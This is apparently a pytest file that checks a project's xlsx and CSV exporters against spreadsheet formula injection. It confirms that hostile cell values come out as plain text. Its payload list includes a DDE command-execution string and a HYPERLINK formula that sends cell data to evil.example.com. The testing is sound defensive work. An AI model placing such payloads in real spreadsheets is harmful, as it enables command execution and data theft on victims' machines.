"""Whatever stands in a text that leaves as a table, no spreadsheet runs it (attack A51), whichever exporter wrote it.

An exporter is a function from rows to what a spreadsheet reads: a new one is added to `EXPORTERS`.
"""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable, Sequence
from io import StringIO
from pathlib import Path

import pytest

from reconcile.test_report import read_workbook
from shunfu.console.workbook import Sheet, csv_head, csv_line, write_workbook

Rows = Sequence[Sequence[str | int]]
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://evil.example.com/?"&A1,"x")',
    '"=1+1',
    '","=1+1',
    ";=1+1",
    "|=1+1",
    "{=1+1}",
    "http://evil.example.com",
    "1e5",
    "x\u202e=1+1",
)


def as_workbook(folder: Path, rows: Rows) -> tuple[Rows, bytes]:
    """The cells as a spreadsheet shows them, and the raw sheet."""
    path = folder / "book.xlsx"
    write_workbook(path, [Sheet("one", ("text", "minor"), rows)])
    with zipfile.ZipFile(path) as archive:
        raw = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
    return read_workbook(path)["one"][1:], raw


def as_csv(_: Path, rows: Rows) -> tuple[Rows, bytes]:
    """The cells as a reader of RFC 4180 has them, and the file; an apostrophe in front says that it is a text."""
    text = csv_head(("text", "minor")) + "".join(map(csv_line, rows))
    read = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert all(len(row) == 2 for row in read), "a text has broken out of its cell"
    assert not [row[0] for row in read if row[0].lstrip()[:1] in BEGINNINGS or row[0][:1] in {"\t", "\r", "\n"}]
    return [(row[0].removeprefix("'"), int(row[1])) for row in read], text.encode()


BEGINNINGS = {"=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "{"}
EXPORTERS: dict[str, Callable[[Path, Rows], tuple[Rows, bytes]]] = {"xlsx": as_workbook, "csv": as_csv}
RUNNING: dict[str, tuple[bytes, ...]] = {"xlsx": (b"<f>", b"<f ", b"<hyperlink", b"<dde", b"externalLink"), "csv": ()}


@pytest.mark.parametrize("exporter", EXPORTERS)
def test_a_formula_is_a_text_and_a_number_a_number(tmp_path: Path, exporter: str) -> None:
    rows = [(text, number) for number, text in enumerate(FORMULAS, -3)]
    shown, raw = EXPORTERS[exporter](tmp_path, rows)
    texts = [str(one[0]).replace("_x000D_", "\r").strip() for one in shown]  # as ECMA-376 writes a CR
    assert texts == [text.strip() for text, _ in rows]
    assert [one[1] for one in shown] == [number for _, number in rows]
    assert not [mark for mark in RUNNING[exporter] if mark in raw]


def test_the_check_sees_a_formula(tmp_path: Path) -> None:
    """The control: the library writes one when it is asked to, and the marks above are in it."""
    from xlsxwriter import Workbook

    path = tmp_path / "book.xlsx"
    with Workbook(str(path)) as book:
        book.add_worksheet("one").write(0, 0, "=1+1")
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" in archive.read("xl/worksheets/sheet1.xml")
